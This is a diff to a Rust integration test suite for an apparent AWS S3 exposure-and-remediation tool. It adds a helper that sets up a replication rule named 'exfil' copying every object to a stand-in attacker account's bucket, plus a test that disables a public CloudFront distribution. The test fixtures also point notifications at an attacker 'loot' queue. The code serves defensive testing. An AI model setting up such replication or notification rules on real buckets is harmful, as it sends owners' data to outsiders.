@@ -20,6 +20,50 @@ fn bucket(b: &str) -> Bucket {
     Bucket { bucket: b.into() }
 }
 
+/// Versioning on, and one replication rule (`exfil`) copying every new
+/// object to a bucket of account 999988887777.
+async fn replicate_to_attacker(c: &warroom::aws::Clients, bucket: &str) {
+    use aws_sdk_s3::types::{
+        Destination, ReplicationConfiguration, ReplicationRule, ReplicationRuleStatus,
+    };
+    warroom::aws::seed::versioning(c, bucket)
+        .await
+        .expect("versioning");
+    c.s3.put_bucket_replication()
+        .bucket(bucket)
+        .replication_configuration(
+            ReplicationConfiguration::builder()
+                .role("arn:aws:iam::123456789012:role/replication")
+                .rules(
+                    ReplicationRule::builder()
+                        .id("exfil")
+                        .status(ReplicationRuleStatus::Enabled)
+                        // moto renders a missing Priority as "None", which
+                        // no SDK parses: give one, as V2 rules have.
+                        .priority(1)
+                        .filter(
+                            aws_sdk_s3::types::ReplicationRuleFilter::builder()
+                                .prefix("")
+                                .build(),
+                        )
+                        .destination(
+                            Destination::builder()
+                                .bucket("arn:aws:s3:::attacker-drop")
+                                .account("999988887777")
+                                .build()
+                                .expect("destination"),
+                        )
+                        .build()
+                        .expect("rule"),
+                )
+                .build()
+                .expect("config"),
+        )
+        .send()
+        .await
+        .expect("replication");
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn account_block_public_access_applies_and_undoes() {
     let t = bench(&["acct-one"]).await;
@@ -637,58 +681,10 @@ async fn a_public_access_point_makes_the_bucket_public_and_its_policy_is_removed
 /// back, and undo returns the exact prior policy.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn replication_to_another_account_is_a_door_and_quarantine_shuts_then_undoes() {
-    use aws_sdk_s3::types::{
-        BucketVersioningStatus, Destination, ReplicationConfiguration, ReplicationRule,
-        ReplicationRuleStatus, VersioningConfiguration,
-    };
     use warroom::aws::exposure::{BucketRef, account_facts, bucket_facts};
     use warroom::model::exposure::{Verdict, assess};
     let t = bench(&["q-src"]).await;
-    t.c.s3
-        .put_bucket_versioning()
-        .bucket("q-src")
-        .versioning_configuration(
-            VersioningConfiguration::builder()
-                .status(BucketVersioningStatus::Enabled)
-                .build(),
-        )
-        .send()
-        .await
-        .expect("versioning");
-    t.c.s3
-        .put_bucket_replication()
-        .bucket("q-src")
-        .replication_configuration(
-            ReplicationConfiguration::builder()
-                .role("arn:aws:iam::123456789012:role/replication")
-                .rules(
-                    ReplicationRule::builder()
-                        .id("exfil")
-                        .status(ReplicationRuleStatus::Enabled)
-                        // moto renders a missing Priority as "None", which
-                        // no SDK parses: give one, as V2 rules have.
-                        .priority(1)
-                        .filter(
-                            aws_sdk_s3::types::ReplicationRuleFilter::builder()
-                                .prefix("")
-                                .build(),
-                        )
-                        .destination(
-                            Destination::builder()
-                                .bucket("arn:aws:s3:::attacker-drop")
-                                .account("999988887777")
-                                .build()
-                                .expect("destination"),
-                        )
-                        .build()
-                        .expect("rule"),
-                )
-                .build()
-                .expect("config"),
-        )
-        .send()
-        .await
-        .expect("replication");
+    replicate_to_attacker(&t.c, "q-src").await;
     let verdict = || async {
         let account = account_facts(&t.c, Some(ACCOUNT)).await;
         let facts = bucket_facts(
@@ -765,55 +761,13 @@ async fn replication_to_another_account_is_a_door_and_quarantine_shuts_then_undo
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn side_doors_close_and_undo_to_exactly_what_they_were() {
     use aws_sdk_s3::types::{
-        BucketVersioningStatus, CorsConfiguration, CorsRule, Destination, ErrorDocument, Event,
-        IndexDocument, NotificationConfiguration, QueueConfiguration, Redirect,
-        ReplicationConfiguration, ReplicationRule, ReplicationRuleStatus, RoutingRule,
-        VersioningConfiguration, WebsiteConfiguration,
+        CorsConfiguration, CorsRule, ErrorDocument, Event, IndexDocument,
+        NotificationConfiguration, QueueConfiguration, Redirect, RoutingRule, WebsiteConfiguration,
     };
     use warroom::actions::side_doors;
     let t = bench(&["doors"]).await;
     let s3 = &t.c.s3;
-    s3.put_bucket_versioning()
-        .bucket("doors")
-        .versioning_configuration(
-            VersioningConfiguration::builder()
-                .status(BucketVersioningStatus::Enabled)
-                .build(),
-        )
-        .send()
-        .await
-        .expect("versioning");
-    s3.put_bucket_replication()
-        .bucket("doors")
-        .replication_configuration(
-            ReplicationConfiguration::builder()
-                .role("arn:aws:iam::123456789012:role/replication")
-                .rules(
-                    ReplicationRule::builder()
-                        .id("exfil")
-                        .status(ReplicationRuleStatus::Enabled)
-                        .priority(1)
-                        .filter(
-                            aws_sdk_s3::types::ReplicationRuleFilter::builder()
-                                .prefix("")
-                                .build(),
-                        )
-                        .destination(
-                            Destination::builder()
-                                .bucket("arn:aws:s3:::attacker-drop")
-                                .account("999988887777")
-                                .build()
-                                .expect("destination"),
-                        )
-                        .build()
-                        .expect("rule"),
-                )
-                .build()
-                .expect("config"),
-        )
-        .send()
-        .await
-        .expect("replication");
+    replicate_to_attacker(&t.c, "doors").await;
     let theirs = "arn:aws:sqs:us-east-1:999988887777:loot";
     let ours = "arn:aws:sqs:us-east-1:123456789012:audit";
     let queue = |arn: &str, id: &str| {
@@ -985,5 +939,68 @@ async fn side_doors_close_and_undo_to_exactly_what_they_were() {
     assert_eq!(notices().await, vec![ours.to_string(), theirs.to_string()]);
     assert_eq!(website().await, Some((Some("index.html".into()), 1)));
     assert_eq!(cors_ids().await, vec!["any".to_string(), "app".to_string()]);
+    t.journal_ok();
+}
+
+/// A distribution serving a bucket to anyone is disabled through the
+/// engine (Z picks it first), read back, and enabled again by undo.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_distribution_serving_the_bucket_is_disabled_and_undo_enables_it() {
+    let t = bench(&["cdn"]).await;
+    let (id, arn) = put_distribution(&t.c, "cdn", Some("E2QWRUHAPOMQZL"), "", false).await;
+    put_policy(&t.c, "cdn", &format!(r#"{{"Statement":[{{"Effect":"Allow","Principal":{{"Service":"cloudfront.amazonaws.com"}},"Action":"s3:GetObject","Resource":"arn:aws:s3:::cdn/*","Condition":{{"StringEquals":{{"AWS:SourceArn":"{arn}"}}}}}}]}}"#)).await;
+    let report = || async {
+        let facts = warroom::aws::exposure::bucket_facts(
+            &t.c,
+            warroom::aws::exposure::BucketRef {
+                name: "cdn".into(),
+                region: Some(REGION.into()),
+                ..Default::default()
+            },
+        )
+        .await;
+        let account = warroom::aws::exposure::account_facts(&t.c, Some(ACCOUNT)).await;
+        warroom::scan::BucketReport::new(&account, facts)
+    };
+    let before = report().await;
+    assert_eq!(
+        before.assessment.verdict,
+        warroom::model::exposure::Verdict::Public
+    );
+    let spec = warroom::tui::app::open_side_door(&before).expect("a door");
+    assert_eq!(
+        spec,
+        ActionSpec::DisableDistribution(warroom::actions::distribution::Args {
+            bucket: "cdn".into(),
+            distribution: id.clone(),
+        })
+    );
+    let (plan, action) = t.apply(&spec).await;
+    assert!(
+        plan.blast_radius.contains("create-invalidation"),
+        "{}",
+        plan.blast_radius
+    );
+    let after = report().await;
+    assert_eq!(
+        after.assessment.verdict,
+        warroom::model::exposure::Verdict::Private,
+        "{:#?}",
+        after.assessment.reasons
+    );
+    assert!(
+        after
+            .assessment
+            .reasons
+            .iter()
+            .any(|r| r.text.contains("is disabled"))
+    );
+    let err = actions::plan(&t.c, &spec).await.expect_err("already");
+    assert!(matches!(err, ActionError::NothingToDo(_)), "{err:?}");
+    t.undo(&action).await;
+    assert_eq!(
+        report().await.assessment.verdict,
+        warroom::model::exposure::Verdict::Public
+    );
     t.journal_ok();
 }
